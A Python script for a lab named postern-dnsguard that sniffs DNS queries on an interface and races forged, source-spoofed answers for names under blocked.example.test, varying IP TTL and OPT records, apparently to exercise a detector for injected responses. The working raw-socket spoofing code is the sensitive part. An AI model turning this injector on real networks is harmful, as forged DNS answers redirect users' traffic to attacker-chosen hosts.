#!/usr/bin/python3
"""An on-path DNS injector for the postern-dnsguard lab: it watches the queries arriving on one
interface and, for every name under blocked.example.test, sends a forged answer spoofed from the
server's address before the real one (which the upstream delays). The label before "blocked"
picks the variant:
  ttlrand   random IP TTL, no OPT
  ttlcopy   IP TTL copied from the query, no OPT
  ttlcopyopt IP TTL copied from the query, OPT when the query had one
  listed    a listed (bogus) address, TTL copied, OPT as the query
The forged A is 198.51.100.66 (listed: 203.0.113.66), AAAA 2001:db8:dead::66 (listed: 2001:db8:bad::66).
Usage: injector.py IFACE SERVER_IPV4. Prints "ready" once listening and one line per forgery."""
import random
import socket
import struct
import sys

ETH_P_IP = 0x0800
PACKET_HOST = 0


def parse_name(msg, offset):
    labels = []
    while True:
        length = msg[offset]
        if length == 0:
            return labels, offset + 1
        if length & 0xC0:
            raise ValueError("compressed question")
        labels.append(msg[offset + 1:offset + 1 + length].decode("ascii", "replace").lower())
        offset += 1 + length


def forge(query, ip_ttl):
    qid, _flags, qd, _an, _ns, ar = struct.unpack("!HHHHHH", query[:12])
    if qd != 1:
        return None
    labels, end = parse_name(query, 12)
    qtype, qclass = struct.unpack("!HH", query[end:end + 4])
    if "blocked" not in labels or qtype not in (1, 28):
        return None
    variant = labels[labels.index("blocked") - 1] if labels.index("blocked") > 0 else "ttlrand"
    listed = variant == "listed"
    if qtype == 1:
        rdata = socket.inet_aton("203.0.113.66" if listed else "198.51.100.66")
    else:
        rdata = socket.inet_pton(socket.AF_INET6, "2001:db8:bad::66" if listed else "2001:db8:dead::66")
    with_opt = ar > 0 and variant in ("ttlcopyopt", "listed")
    if variant == "ttlrand":
        ttl = random.randint(1, 255)
    else:
        ttl = ip_ttl
    header = struct.pack("!HHHHHH", qid, 0x8180, 1, 1, 0, 1 if with_opt else 0)
    answer = struct.pack("!HHHIH", 0xC00C, qtype, 1, 300, len(rdata)) + rdata
    opt = b"\x00" + struct.pack("!HHIH", 41, 1232, 0, 0) if with_opt else b""
    return variant, ttl, header + query[12:end + 4] + answer + opt


def main():
    iface, server = sys.argv[1], sys.argv[2]
    sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_IP))
    sniffer.bind((iface, 0))
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    print("ready", flush=True)
    while True:
        frame, address = sniffer.recvfrom(65535)
        if address[2] != PACKET_HOST:
            continue
        ip = frame[14:]
        if len(ip) < 28 or ip[0] >> 4 != 4 or ip[9] != 17:
            continue
        ihl = (ip[0] & 0x0F) * 4
        src, dst = ip[12:16], ip[16:20]
        if socket.inet_ntoa(dst) != server:
            continue
        sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
        if dport != 53:
            continue
        try:
            forged = forge(ip[ihl + 8:], ip[8])
        except (ValueError, IndexError, struct.error):
            continue
        if forged is None:
            continue
        variant, ttl, dns = forged
        udp = struct.pack("!HHHH", 53, sport, 8 + len(dns), 0) + dns
        total = 20 + len(udp)
        iphdr = struct.pack("!BBHHHBBH4s4s", 0x45, 0, total, random.randint(1, 65535), 0, ttl, 17, 0, dst, src)
        sender.sendto(iphdr + udp, (socket.inet_ntoa(src), 0))
        print(f"forged {variant} ttl {ttl} to {socket.inet_ntoa(src)}:{sport}", flush=True)


if __name__ == "__main__":
    main()
